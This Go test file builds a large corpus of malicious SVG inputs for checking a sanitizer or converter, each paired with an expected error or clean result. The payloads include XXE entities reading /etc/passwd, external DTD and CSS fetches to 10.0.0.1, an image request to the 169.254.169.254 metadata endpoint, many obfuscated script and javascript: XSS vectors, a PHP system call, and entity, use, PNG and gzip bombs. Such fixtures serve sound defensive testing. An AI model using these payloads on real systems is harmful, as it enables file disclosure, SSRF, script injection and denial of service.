// Package svgtest contains malicious SVG files, and a scan for content that a sanitized one must not have.
package svgtest

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"errors"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"io"
	"strings"
	"unicode/utf16"

	"letterhead/internal/imaging"
	"letterhead/internal/imaging/imagingtest"
	"letterhead/internal/svg"
)

const (
	// Open begins an SVG of 100×40 units, and Honest is a rectangle of 90×30 in its corner.
	Open   = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 40">`
	Honest = `<rect width="90" height="30" fill="#0b5fff"/>`
)

// Case is a malicious SVG, or one that is difficult for tools.
type Case struct {
	Name string
	SVG  string
	// Want is the error; nil means that the result must contain the honest rectangle, and nothing else of relevance.
	Want error
}

// Around adds elements after the honest rectangle.
func Around(s string) string { return Open + Honest + s + "</svg>" }

func chain(element string, n int, link string) string {
	var b strings.Builder
	fmt.Fprintf(&b, `<%s id="c0"><rect width="1" height="1"/></%s>`, element, element)
	for i := 1; i < n; i++ {
		fmt.Fprintf(&b, `<%s id="c%d" %s/>`, element, i, fmt.Sprintf(link, i-1))
	}
	return b.String()
}

// UTF16 encodes a text in little endian with a byte order mark.
func UTF16(s string) string {
	b := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

// Packed returns an svgz file.
func Packed(r io.Reader) string {
	var b strings.Builder
	z := gzip.NewWriter(&b)
	_, err := io.Copy(z, r)
	if err := errors.Join(err, z.Close()); err != nil {
		panic(err) // of a reader in memory
	}
	return b.String()
}

// blank returns a square PNG, large only in memory.
func blank(side int) []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewPaletted(image.Rect(0, 0, side, side), color.Palette{color.Black})); err != nil {
		panic(err) // of a writer in memory
	}
	return b.Bytes()
}

// Hostile returns files that a converter of SVG must survive.
func Hostile() []Case {
	laughs := `<!DOCTYPE svg [<!ENTITY a0 "lol">`
	for i := range 10 {
		laughs += fmt.Sprintf(`<!ENTITY a%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&a%d;", i), 10))
	}
	laughs += "]>"
	useBomb := `<g id="g0">` + Honest + `</g>`
	for i := range 9 {
		useBomb += fmt.Sprintf(`<g id="g%d">%s</g>`, i+1, strings.Repeat(fmt.Sprintf(`<use href="#g%d"/>`, i), 10))
	}
	blurs := `<filter id="f">` + strings.Repeat(`<feGaussianBlur stdDeviation="50"/>`, 200) + `</filter>`
	manyEntities := `<!DOCTYPE svg [`
	for i := range 100 {
		manyEntities += fmt.Sprintf(`<!ENTITY e%d "x">`, i)
	}
	manyEntities += "]>"
	quadratic := `<!DOCTYPE svg [<!ENTITY q "` + strings.Repeat("q", 5000) + `">]>` + Open + Honest + `<text>` + strings.Repeat("&q;", 50_000) + `</text></svg>`
	layered := func(element, link string) string { // each of ten is used ten times by the next
		b := fmt.Sprintf(`<%s id="l0" width="9" height="9"><rect width="9" height="9" fill="#fff"/></%s>`, element, element)
		for i := range 9 {
			b += fmt.Sprintf(`<%s id="l%d" width="9" height="9">%s</%s>`, element, i+1, strings.Repeat(fmt.Sprintf(`<rect width="9" height="9" %s="url(#l%d)"/>`, link, i), 10), element)
		}
		return b + fmt.Sprintf(`<rect width="9" height="9" %s="url(#l9)"/>`, link)
	}
	svgInside := base64.StdEncoding.EncodeToString([]byte(Open + `<script>alert(1)</script></svg>`))
	bomb := base64.StdEncoding.EncodeToString(imagingtest.PNGBomb())
	manyImages := `<image width="9" height="9" href="data:image/png;base64,` + base64.StdEncoding.EncodeToString(blank(2048)) + `"/>`
	for range 2 { // 64 of them
		manyImages = strings.Repeat(`<image width="9" height="9" href="data:image/svg+xml;base64,`+
			base64.StdEncoding.EncodeToString([]byte(Open+manyImages+`</svg>`))+`"/>`, 8)
	}
	longRule := `<style>*{`
	for _, property := range strings.Fields("font-family font-stretch font-variant stroke-linecap image-rendering") {
		longRule += property + ":" + strings.Repeat("a ", 2000) + ";"
	}
	longRule += `}</style>` + strings.Repeat("<g/>", 19_000)
	big := imaging.ErrTooLarge
	return []Case{
		{"billion laughs in text", laughs + Around("<text>&a10;</text>"), nil},
		{"billion laughs as elements", strings.ReplaceAll(laughs, `"lol"`, `"<rect/>"`) + Around("&a10;"), nil},
		{"many entities", manyEntities + Around(""), big},
		{"quadratic entities", quadratic, big},
		{"external entity, file", `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + Around("<text>&x;</text>"), nil},
		{"external entity, http", `<!DOCTYPE svg [<!ENTITY x PUBLIC "-//x" "http://10.0.0.1/x">]>` + Around("<text>&x;</text>"), nil},
		{"external document type", `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://10.0.0.1/evil.dtd">` + Around(""), nil},
		{"parameter entity", `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://10.0.0.1/x"> %x;]>` + Around(""), nil},
		{"use bomb", Open + "<defs>" + useBomb + `</defs><use href="#g9"/></svg>`, big},
		{"use bomb that is never drawn", Open + Honest + "<defs>" + useBomb + `</defs><g display="none"><use href="#g9"/></g></svg>`, big},
		{"use cycle", Around(`<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>`), big},
		{"use of itself", Around(`<g id="a"><use xlink:href="#a"/></g>`), big},
		{"use of the root", strings.Replace(Around(`<use href="#r"/>`), "<svg ", `<svg id="r" `, 1), big},
		{"gradient cycle", Around(`<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/><rect fill="url(#a)" width="1" height="1"/>`), big},
		{"pattern cycle", Around(`<pattern id="p" width="9" height="9"><rect width="9" height="9" fill="url(#p)"/></pattern><rect fill="url(#p)" width="9" height="9"/>`), big},
		{"pattern cycle by inheritance", Around(`<g fill="url(#p)"><pattern id="p" width="9" height="9"><g style="fill:url(#p)"><rect width="9" height="9"/></g></pattern></g>`), big},
		{"mask cycle", Around(`<mask id="m" mask="url(#m)"><rect width="9" height="9"/></mask><rect mask="url(#m)" width="9" height="9"/>`), big},
		{"clip cycle by style", Around(`<style>.c{clip-path:url(#k)}</style><clipPath id="k"><rect class="c" width="9" height="9"/></clipPath><rect class="c" width="9" height="9"/>`), big},
		{"deep gradient chain", Around(chain("linearGradient", 2000, `href="#c%d"`) + `<rect width="1" height="1" fill="url(#c1999)"/>`), big},
		{"deep use chain", Around(chain("g", 2000, `><use href="#c%d"/></g><g`) + `<use href="#c1999"/>`), big},
		{"deep mask chain", Around(chain("mask", 2000, `mask="url(#c%d)"`) + `<rect mask="url(#c1999)" width="1" height="1"/>`), big},
		{"deep pattern chain", Around(chain("pattern", 2000, `href="#c%d"`) + `<rect width="1" height="1" fill="url(#c1999)"/>`), big},
		{"deep clip chain", Around(chain("clipPath", 2000, `clip-path="url(#c%d)"`) + `<rect clip-path="url(#c1999)" width="1" height="1"/>`), big},
		{"pattern bomb", Around(layered("pattern", "fill")), big},
		{"mask bomb", Around(layered("mask", "mask")), big},
		{"clip bomb", Around(layered("clipPath", "clip-path")), big},
		{"deep nesting", Around(strings.Repeat("<g>", 30_000) + strings.Repeat("</g>", 30_000)), big},
		{"viewBox NaN", `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 NaN NaN">` + Honest + `</svg>`, nil},
		{"viewBox Inf", `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 Infinity 1e999">` + Honest + `</svg>`, nil},
		{"viewBox zero", `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 0">` + Honest + `</svg>`, nil},
		{"viewBox negative", `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 -10 -10">` + Honest + `</svg>`, nil},
		{"width 1e9", `<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9" viewBox="0 0 10 10">` + Honest + `</svg>`, nil},
		{"aspect 1:1e8", `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1000000 0.01">` + Honest + `</svg>`, big},
		{"huge blur", Around(`<filter id="f"><feGaussianBlur stdDeviation="1e5"/></filter><g filter="url(#f)"><rect width="9" height="9"/></g>`), nil},
		{"many blurs", Around(blurs + strings.Repeat(`<rect filter="url(#f)" width="9" height="9"/>`, 50)), big},
		{"turbulence", Around(`<filter id="f"><feTurbulence numOctaves="1000000" baseFrequency="0.9"/></filter><rect width="9" height="9" filter="url(#f)"/>`), nil},
		{"huge morphology", Around(`<filter id="f"><feMorphology radius="1e4"/></filter><rect width="9" height="9" filter="url(#f)"/>`), nil},
		{"huge filter canvas", Around(`<filter id="f" width="90000000%" height="90000000%"><feOffset dx="1"/></filter><rect width="9" height="9" filter="url(#f)"/>`), nil},
		{"tiny pattern", Around(`<pattern id="p" width="0.0001" height="0.0001" patternUnits="userSpaceOnUse"><path d="M0 0h1v1z"/></pattern><rect fill="url(#p)" width="90" height="30"/>`), big},
		{"tiny pattern in a mask", Around(`<pattern id="p" width="1" height="1" patternTransform="scale(1e-5)" patternUnits="userSpaceOnUse"><path d="M0 0h1v1z"/></pattern><mask id="m"><rect fill="url(#p)" width="90" height="30"/></mask><rect mask="url(#m)" width="9" height="9"/>`), big},
		{"narrow pattern", Around(`<pattern id="p" width="0.0000001" height="1" ><path d="M0 0h1v1z"/></pattern><rect fill="url(#p)" width="90" height="30"/>`), big},
		{"inherited pattern", Around(`<pattern id="p" width="1" height="1">` + strings.Repeat(`<path d="M0 0h1v1z"/>`, 1000) + `</pattern><g fill="url(#p)">` + strings.Repeat(`<path d="M0 0h1v1z"/>`, 1000) + `</g>`), big},
		{"tiny dashes", Around(`<path d="M0 0h1000000" stroke="red" stroke-dasharray="0.0001"/>`), big},
		{"tiny dashes by style", Around(`<style>path{stroke:red;stroke-dasharray:.0001 .0001}</style><path d="M0 0h1000000"/>`), big},
		{"far coordinates", Around(`<path d="M0 0 L1e38 1e38 1e38 0z" stroke="red"/>`), nil},
		{"path of half a million points", Around(`<path d="M0 0` + strings.Repeat("h1v1", 250_000) + `"/>`), big},
		{"groups of opacity in each other", Around(strings.Repeat(`<g opacity=".9">`, 100) + `<rect width="9" height="9"/>` + strings.Repeat("</g>", 100)), nil},
		{"huge stroke", Around(`<path d="M0 50h9" stroke="red" stroke-width="1e9" stroke-miterlimit="1e9" opacity=".01"/>`), nil},
		{"huge transform", Around(`<g transform="scale(1e30)"><path d="M0 50h9v9z" opacity=".01"/></g>`), nil},
		{"as many stops as fit", Around(`<linearGradient id="g">` + strings.Repeat(`<stop offset="1"/>`, 19_000) + `</linearGradient><rect width="9" height="9" fill="url(#g)"/>`), big},
		{"a hundred thousand rects", Around(strings.Repeat(`<p/>`, 100_000)), big},
		{"a hundred thousand attributes", Around(`<rect ` + strings.Repeat(`a="" `, 90_000) + `/>`), big},
		{"many filters over use", Around(`<filter id="f"><feGaussianBlur stdDeviation="5"/></filter><g id="g"><rect filter="url(#f)" width="9" height="9"/></g>` + strings.Repeat(`<use href="#g"/>`, 2000)), big},
		{"slow selectors", Around(`<style>` + strings.Repeat(`g g g *{fill:red}`, 3000) + `</style>` + strings.Repeat("<g>", 60) + strings.Repeat(`<path d="M0 0h1"/>`, 9000) + strings.Repeat("</g>", 60)), big},
		{"mask by a selector that needs a second try", Around(`<style>.a>g .x{mask:url(#m)}</style><mask id="m">` + strings.Repeat(`<path d="M0 0h1v1z"/>`, 3000) + `</mask><g class="a"><g><g>` + strings.Repeat(`<path class="x" d="M0 0h1v1z"/>`, 200) + `</g></g></g>`), big},
		{"mask by a rule that another one seems to undo", Around(`<style>path{mask:url(#m)}path{mask:bogus}</style><mask id="m">` + strings.Repeat(`<rect width="1" height="1"/>`, 3000) + `</mask>` + strings.Repeat(`<path d="M0 0h1v1z"/>`, 200)), big},
		{"dashes by a rule that another one seems to undo", Around(`<path d="M0 0h1000000" stroke="red" style="stroke-dasharray:.0001;stroke-dasharray:1 px"/>`), big},
		{"dashes by arithmetic", Around(`<path d="M0 0h1000000" stroke="red" style="stroke-dasharray:calc(.0001px);stroke-dasharray:var(--x);stroke-dasharray:1%"/>`), nil},
		{"nested SVG as data", Around(`<image href="data:image/svg+xml;base64,` + svgInside + `" width="9" height="9"/>`), nil},
		{"PNG bomb inside", Around(`<image href="data:image/png;base64,` + bomb + `" width="9" height="9"/>`), nil},
		{"image from a file", Around(`<image href="file:///etc/passwd" width="9" height="9"/>`), nil},
		{"image from the network", Around(`<image xlink:href="http://169.254.169.254/latest/meta-data/" width="9" height="9"/>`), nil},
		{"HTML as PNG data", Around(`<image href="data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" width="9" height="9"/>`), nil},
		{"image in a filter", Around(`<filter id="f"><feImage href="http://10.0.0.1/x"/></filter><rect width="9" height="9" filter="url(#f)"/>`), nil},
		{"style import", Around(`<style>@import url("http://10.0.0.1/evil.css");@import 'evil.css';rect{stroke:none}</style>`), nil},
		{"style with outside urls", Around(`<style>rect{fill:url(http://10.0.0.1/p.svg#p);background:url(javascript:alert(1));stroke:URL( "//evil/x" )}</style><rect width="9" height="9" style="fill:url('data:image/svg+xml,x')"/>`), nil},
		{"style with escapes", Around(`<style>rect{fill:u\72l(http://10.0.0.1/x);filter:\75rl(//x)}</style><rect width="9" height="9" style="stroke:u\000072l(http://x)"/>`), nil},
		{"style that ends early", Around(`<style>circle{fill:red}&lt;/style>&lt;script>alert(1)&lt;/script></style><style><![CDATA[</style><script>alert(1)</script>]]></style>`), nil},
		{"style with fonts and frames", Around(`<style>@font-face{font-family:x;src:url(http://10.0.0.1/f)}@keyframes k{to{fill:red}}@namespace url(http://x);rect{animation:k;-moz-binding:url(http://x);behavior:url(x)}</style>`), nil},
		{"url in a custom property", Around(`<style>:root{--x:url(http://10.0.0.1/)}rect{stroke:var(--x)}</style>`), nil},
		{"script", Around(`<script>alert(1)</script><SCRIPT>alert(1)</SCRIPT><script href="http://10.0.0.1/evil.js"/>`), nil},
		{"CDATA script", Around(`<script><![CDATA[alert(1)]]></script>`), nil},
		{"script in another namespace", Around(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script><x:g xmlns:x="http://www.w3.org/1999/xhtml" onclick="alert(1)"/>`), nil},
		{"handlers", strings.Replace(Around(`<rect width="9" height="9" onclick="alert(1)" ONLOAD="alert(1)" on:click="x"/>`), "<svg ", `<svg onload="alert(1)" `, 1), nil},
		{"handler by namespace", Around(`<rect xmlns:ev="http://www.w3.org/2001/xml-events" ev:onclick="alert(1)" width="9" height="9"/><handler type="text/ecmascript">alert(1)</handler><listener event="click" handler="#h"/>`), nil},
		{"foreign object", Around(`<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="http://10.0.0.1/"></iframe><script>alert(1)</script></body></foreignObject>`), nil},
		{"javascript link", Around(`<a href="javascript:alert(1)"><text>x</text></a><a xlink:href="jAvA&#x9;script:alert(1)"><rect width="9" height="9"/></a><a href="java&#10;script&#58;alert(1)"/>`), nil},
		{"set on href", Around(`<use id="u" href="#x"/><set href="#u" attributeName="href" to="javascript:alert(1)"/><set attributeName="onmouseover" to="alert(1)"/>`), nil},
		{"animate on href", Around(`<rect width="9" height="9"><animate attributeName="xlink:href" values="javascript:alert(1)"/><animateTransform/><animateMotion path="M0 0"/></rect>`), nil},
		{"odd prefix for xlink", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:zz="http://www.w3.org/1999/xlink" viewBox="0 0 100 40">` + Honest + `<use zz:href="http://10.0.0.1/x.svg#y"/><use zz:href="&#x6a;avascript:alert(1)"/></svg>`, nil},
		{"use of another file", Around(`<use href="sprite.svg#icon"/><use href="//evil/x#y"/><use href="data:image/svg+xml,x#y"/>`), nil},
		{"xml:base", strings.Replace(Around(`<use href="#a" xml:base="http://10.0.0.1/"/>`), "<svg ", `<svg xml:base="http://10.0.0.1/" `, 1), nil},
		{"instructions", `<?xml version="1.0"?><?xml-stylesheet href="http://10.0.0.1/evil.css"?>` + Around(`<?php system("id") ?><!--[if IE]><script>alert(1)</script><![endif]-->`), nil},
		{"metadata", Around(`<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><script>alert(1)</script></rdf:RDF></metadata><title>javascript:alert(1)</title><desc onclick="x">x</desc>`), nil},
		{"names that clobber", Around(`<g id="location"/><form id="body"><input name="cookie"/></form>`), nil},
		{"markup in attributes", Around(`<rect width="9" height="9" fill='"&gt;&lt;script&gt;alert(1)&lt;/script&gt;' class="&quot;&gt;&lt;script&gt;" id="&lt;x" preserveAspectRatio="&quot; onload=&quot;alert(1)"/>`), nil},
		{"UTF-7", `<?xml version="1.0" encoding="UTF-7"?>` + Around(`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`), imaging.ErrUnsupported},
		{"packed with a script", Packed(strings.NewReader(Around(`<script>alert(1)</script><rect width="9" height="9" onload="x()"/>`))), nil},
		{"packed bomb", Packed(io.MultiReader(strings.NewReader(Around("")), io.LimitReader(imagingtest.Zeros{}, 100<<20))), big},
		{"UTF-16", UTF16(`<?xml version="1.0" encoding="UTF-16"?>` + Around(`<script>alert(1)</script>`)), nil},
		{"entity that is markup", `<!DOCTYPE svg [<!ENTITY s "&#60;script>alert(1)&#60;/script>">]>` + Around("<text>&s;</text>&s;"), nil},
		{"entity-defined namespace", `<!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/2000/svg"><!ENTITY xl "http://www.w3.org/1999/xlink">]><svg xmlns="&ns;" xmlns:k="&xl;" viewBox="0 0 100 40">` + Honest + `<use k:href="http://10.0.0.1/"/></svg>`, nil},
		{"no namespace", `<svg viewBox="0 0 100 40">` + Honest + `<script>alert(1)</script></svg>`, nil},
		{"image as SVG data in upper case", Around(`<image href="DATA:IMAGE/SVG+XML;BASE64,` + svgInside + `" width="9" height="9"/><image href=" data:image/svg+xml,%3Csvg onload=alert(1)%3E" width="9" height="9"/>`), nil},
		{"images in the SVGs of images", Around(manyImages), nil},
		{"a long rule for each of many elements", Around(longRule), big},
		{"image data with a charset", Around(`<image href="data:image/png;charset=utf-8;base64,PHN2Zz4=" width="9" height="9"/><image href="data:text/html;base64,PHNjcmlwdD4=" width="9" height="9"/>`), nil},
		{"style import in upper case and escaped", Around(`<style>@IMPORT "http://10.0.0.1/x";@\69mport url(//x);@charset "x";@layer a{@import "y";rect{stroke:none}}</style>`), nil},
		{"style in CDATA", Around(`<style><![CDATA[@import url(http://10.0.0.1/x);rect{stroke:url(http://10.0.0.1/y)}]]></style>`), nil},
		{"properties that load", Around(`<style>rect{cursor:url(http://x),auto;mask-image:url(http://x);-webkit-mask:url(http://x);list-style:url(//x);content:url(x);marker:url(http://x#m);src:url(x)}</style><rect width="9" height="9" cursor="url(http://x)" marker-start="url(http://x#m)"/>`), nil},
		{"fonts and profiles from outside", Around(`<font-face><font-face-src><font-face-uri xlink:href="http://10.0.0.1/f.svg#f"/></font-face-src></font-face><color-profile name="x" xlink:href="http://10.0.0.1/p.icc"/><cursor xlink:href="http://10.0.0.1/c.png"/>`), nil},
		{"handlers of animation", Around(`<animate onbegin="alert(1)" attributeName="x" dur="1s"/><set xlink:href="#x" attributeName="xlink:href" to="data:text/html,x"/><discard begin="0s"/><animateMotion onrepeat="alert(1)"><mpath xlink:href="http://x"/></animateMotion>`), nil},
		{"paint from another file", Around(`<rect width="9" height="9" fill="url(other.svg#p)" stroke="url( &quot;http://10.0.0.1/x#y&quot; )" filter="url(//x#f)" mask="url(data:image/svg+xml,x#m)" clip-path="url(file:///x#c)"/>`), nil},
		{"gradient from another file", Around(`<linearGradient id="g" xlink:href="http://10.0.0.1/x.svg#g"/><pattern id="p" href="//x/y#z" width="9" height="9"/><rect width="9" height="9" fill="url(#g)" stroke="url(#p)"/>`), nil},
		{"handler by entity", `<!DOCTYPE svg [<!ENTITY j "javascript:alert(1)"><!ENTITY h "http://10.0.0.1/">]>` + Around(`<a href="&j;"><rect width="9" height="9"/></a><image href="&h;x.png" width="9" height="9"/><rect width="9" height="9" fill="url(&h;#x)"/>`), nil},
		{"elements with odd prefixes", `<s:svg xmlns:s="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml" viewBox="0 0 100 40"><s:rect width="90" height="30" fill="#0b5fff"/><s:script>alert(1)</s:script><h:img src="x" onerror="alert(1)"/><s:foreignObject><h:iframe src="http://x"/></s:foreignObject></s:svg>`, nil},
		{"media inside", Around(`<video xmlns="http://www.w3.org/1999/xhtml" src="http://10.0.0.1/v"/><audio href="http://10.0.0.1/a"/><iframe srcdoc="x"/><embed src="x"/><object data="x"/><canvas/><link rel="stylesheet" href="http://x"/><meta http-equiv="refresh" content="0;url=http://x"/><base href="http://x"/>`), nil},
		{"many masks in each other", Around(strings.Repeat(`<mask id="m"><rect width="99" height="99" fill="white"/></mask><g mask="url(#m)">`, 100) + `<rect width="9" height="9"/>` + strings.Repeat("</g>", 100)), nil},
		{"two roots", Around("") + Around("<script>alert(1)</script>"), imaging.ErrMalformed},
		{"cut off", strings.TrimSuffix(Around(""), "</svg>"), imaging.ErrMalformed},
		{"not balanced", Open + Honest + `</g></svg>`, imaging.ErrMalformed},
		{"HTML", `<!doctype html><html><body>` + Around("") + `</body></html>`, imaging.ErrUnknown},
		{"nothing drawn", Open + `<g fill="none"/><rect width="9" height="9" fill="none"/></svg>`, imaging.ErrMalformed},
		{"only clear ink", Open + `<rect width="9" height="9" opacity="0"/><rect width="9" height="9" fill="transparent"/></svg>`, imaging.ErrMalformed},
		{"past the limit of bytes", Around(strings.Repeat(" ", svg.MaxBytes)), big},
		{"cdata in a value", Around(`<text>]]&gt;<tspan>&lt;script&gt;</tspan></text>`), nil},
	}
}
